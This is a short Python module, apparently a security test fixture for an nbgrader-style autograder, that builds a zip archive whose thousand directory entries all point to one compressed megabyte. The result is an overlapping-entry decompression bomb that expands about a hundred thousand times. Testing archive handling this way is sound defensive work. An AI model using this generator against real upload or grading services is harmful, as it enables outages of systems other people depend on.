"""Let a thousand entries of an archive share the same packed bytes.

Each entry is harmless; together they unpack to a hundred thousand times the archive. No single
ratio tells.
"""

import struct
import zlib

NUMBER = "105b"
WANTS = "outage"
STOCK = "not run: nbgrader grades no archives (nbgrader 0.9.6)"
REFUSED = "archive|damaged|larger|overlap"


def raw_archive(entries=1000, size=2**20):
    """The bytes of such an archive: one local entry, many lines in the directory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b" " * size
    packed = packer.compress(data) + packer.flush()
    crc = zlib.crc32(data)
    name = b"s0000/target.ipynb"
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, len(name), 0
    )
    body = local + name + packed
    directory = b""
    for n in range(entries):
        name = b"s%04d/target.ipynb" % n
        head = struct.pack(
            "<4s6H3I5H2I",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        directory += head + name
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, entries, entries, len(directory), len(body), 0)
    return body + directory + end
